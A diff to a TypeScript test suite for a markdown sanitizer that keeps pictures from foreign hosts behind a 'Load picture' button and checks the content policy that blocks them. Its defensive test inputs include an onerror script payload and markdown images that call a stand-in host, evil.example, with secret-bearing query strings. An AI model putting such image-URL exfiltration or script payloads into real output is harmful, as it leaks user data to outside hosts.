@@ -34,9 +34,23 @@ const ALLOWED: Readonly<Record<string, readonly string[]>> = {
   em: [],
   del: [],
   a: ['href', 'target', 'rel', 'referrerpolicy'],
-  img: ['src', 'alt', 'loading', 'decoding', 'referrerpolicy'],
+  img: ['src', 'alt', 'loading', 'decoding', 'referrerpolicy', 'tabindex'],
+  button: ['type', 'class'],
 };
-const CLASSES = ['markdown', 'plain', 'line', 'task', 'table', 'left', 'center', 'right', 'host', 'image-chip'];
+const CLASSES = [
+  'markdown',
+  'plain',
+  'line',
+  'task',
+  'table',
+  'left',
+  'center',
+  'right',
+  'host',
+  'image-chip',
+  'text',
+  'load-picture',
+];
 
 let host: HTMLElement;
 const violations: string[] = [];
@@ -78,6 +92,11 @@ function strangers(root: Element): string[] {
     const classes = [...element.classList].filter((one) => !CLASSES.includes(one));
     return [...strange.map((attribute) => `<${name} ${attribute}>`), ...classes.map((one) => `<${name} class=${one}>`)];
   });
+}
+
+/** What a reader sees of it. */
+function wordsOf(element: Element | null): string {
+  return element?.textContent.replace(/\s+/g, ' ').trim() ?? '';
 }
 
 function badAddresses(root: Element): string[] {
@@ -136,13 +155,42 @@ test('HTML is shown to the reader as it was written', () => {
   expect(show('<img src=x onerror=alert(1)>').textContent).toBe('<img src=x onerror=alert(1)>');
 });
 
-test('a checked picture is shown, one of a foreign host is named and linked', () => {
+test('a checked picture is shown, one of a foreign host is offered', () => {
   const root = show(`![ring](${PNG}) ![spy](https://evil.example/?q=secret)`);
   expect(root.querySelectorAll('img')).toHaveLength(1);
   expect(root.querySelector('img')?.alt).toBe('ring');
   const chip = root.querySelector('.image-chip');
-  expect(chip?.textContent).toBe('Picture from evil.example – not loaded · spy');
-  expect(chip?.querySelector('a')?.href).toBe('https://evil.example/?q=secret');
+  expect(wordsOf(chip)).toBe('Load picture from evil.example · spy');
+  expect(chip?.querySelector('button')?.type).toBe('button');
+});
+
+test('a foreign picture is asked for when its button is pressed, and says so when it does not come', async () => {
+  const root = show('![spy](https://evil.example/a.png?q=1)');
+  const button = root.querySelector('button');
+  button?.focus();
+  button?.click();
+  const image = root.querySelector('img');
+  expect(image?.getAttribute('src')).toBe('https://evil.example/a.png?q=1');
+  expect(image?.referrerPolicy).toBe('no-referrer');
+  expect(image?.alt).toBe('spy');
+  expect(document.activeElement).toBe(image);
+  // The policy of this page stops it.
+  await expect
+    .poll(() => wordsOf(root.querySelector('.image-chip')))
+    .toBe('Picture not available (evil.example) · spy');
+  expect(violations).toContain('img-src https://evil.example/a.png?q=1');
+});
+
+test('what was asked for stays when the message is rendered again, and another address is offered anew', () => {
+  show('![a](https://evil.example/a.png)').querySelector('button')?.click();
+  expect(show('![b](https://evil.example/a.png)').querySelector('img')?.alt).toBe('b');
+  expect(show('![b](https://evil.example/b.png)').querySelector('img')).toBeNull();
+});
+
+test('a foreign picture within a link is offered behind it', () => {
+  const root = show('[**![spy](https://evil.example/a.png)** x](https://shop.example/)');
+  expect(wordsOf(root)).toBe('spy x (shop.example) Load picture from evil.example · spy');
+  expect(root.querySelector('a button')).toBeNull();
 });
 
 test('a picture of an allowed origin keeps the referrer to itself', () => {
